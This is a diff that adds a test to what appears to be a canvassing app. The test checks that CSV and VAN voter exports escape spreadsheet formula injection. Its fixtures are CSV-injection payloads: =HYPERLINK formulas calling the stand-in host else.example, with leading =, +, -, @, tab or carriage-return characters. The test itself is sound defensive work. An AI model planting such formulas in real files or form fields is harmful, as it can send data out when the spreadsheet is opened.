@@ -3,12 +3,13 @@ import { expect, test } from 'vitest'
 import { phone, testId } from '../doc/testing.ts'
 import { buildingId } from './address.ts'
 import { packBase } from './pack-base.ts'
+import { EXPORT_COLUMNS, visitsCsv, type ExportWords } from './export.ts'
 import { doorsGeoJson, osdiJson } from './export-open.ts'
 import { VAN_CONTACT_COLUMNS, VAN_SURVEY_COLUMNS, vanContacts, vanSurvey } from './export-van.ts'
 import { sampleTown } from './town.ts'
 import { fillTurf } from './turf.actions.ts'
 import { turfKind } from './turf.ts'
-import type { Door, Target, Voter } from './types.ts'
+import { RESULTS, type Door, type Target, type Voter } from './types.ts'
 import { addResident, correctVisit, recordVisit, setCanvasserName, undoVisit } from './visits.actions.ts'
 import { visitsKind } from './visits.ts'
 
@@ -173,4 +174,45 @@ test('[D1] support, voting, tags and a promise go into every file; VAN has a col
   expect(osdi.people.map(one => one.custom_fields)).toContainEqual(expect.objectContaining({ support: 2, tags: ['sign'] }))
   const { features } = JSON.parse(doorsGeoJson(turfs())) as { features: { id: string; properties: object }[] }
   expect(features.find(one => one.id === HOUSE.id)?.properties).toMatchObject({ warnings: 1, openPromises: 1 })
+})
+
+test('[P8.7] whatever was said at a door, whoever said it, in no file does a cell begin like a formula, and all of it is there', () => {
+  const olga = phone(turfKind, 'olga', 'organizer')
+  const evil = (what: string, first = '=') => `${first}HYPERLINK("https://else.example/?${what}","${what}")`
+  const asked = { id: testId('evil'), order: 1, text: evil('Question', '+'), kind: 'choice' as const, choices: [evil('Choice', '@'), 'No'] }
+  olga.act(fillTurf, { name: evil('Turf', '\t'), groupName: evil('Group'), part: packBase(base)[0]!, questions: [asked, WHY] })
+  const sam = phone(visitsKind, 'sam')
+  sam.act(setCanvasserName, { name: evil('Sam', '-') })
+  const said = {
+    note: evil('Note', '\r'),
+    issue: evil('Issue'),
+    followUp: { on: '2026-11-28', what: evil('Promise', '+') },
+    voting: { registered: 'yes', way: 'mail', when: evil('When', '-'), how: evil('How', '@') },
+    tags: { '=SUM(1)': true, "'=1+1": false },
+    safety: evil('Warning', '\t'),
+    answers: { [asked.id]: evil('Choice', '@'), [WHY.id]: evil('Why') },
+    paper: { knocker: evil('Knocker'), sheet: '2026-11-22 K7QM' },
+  } as const
+  for (const [i, voter] of votersAt(HOUSE).slice(0, 2).entries())
+    expect(
+      sam.act(recordVisit, { id: testId(`${i}`), target: person(voter), door: HOUSE.id, result: 'canvassed', ...said }, NOON + i),
+    ).toBeUndefined()
+  sam.act(addResident, { id: testId('new'), door: HOUSE.id, name: evil('Resident'), note: evil('ResidentNote', '+') })
+  const turfs = [{ name: olga.view().name, turf: olga.view(), visits: sam.view() }]
+  const words = {
+    columns: Object.fromEntries(EXPORT_COLUMNS.map(column => [column, column])) as ExportWords['columns'],
+    results: Object.fromEntries(RESULTS.map(code => [code, code])) as ExportWords['results'],
+    yes: 'yes',
+  }
+  const questions = [asked, WHY]
+  const files = [visitsCsv(turfs, questions, words), vanContacts(turfs, questions).text, vanSurvey(turfs, questions).text]
+  for (const file of files) {
+    const { data, errors } = Papa.parse<string[]>(file, { skipEmptyLines: true })
+    expect(errors).toEqual([])
+    expect(data.length).toBeGreaterThan(1)
+    expect(data.flat().filter(cell => /^[\uFEFF]?[=+\-@\t\r]/.test(cell))).toEqual([])
+  }
+  for (const what of ['Note', 'Issue', 'Promise', 'How', 'Warning', 'Choice', 'Why', 'Knocker', 'Question', 'Turf'])
+    expect(files[0]!.includes(`?${what}`), what).toBe(true)
+  for (const what of ['Promise', 'How', 'Question', 'Choice', 'Knocker']) expect(files[1]!.includes(`?${what}`), what).toBe(true)
 })
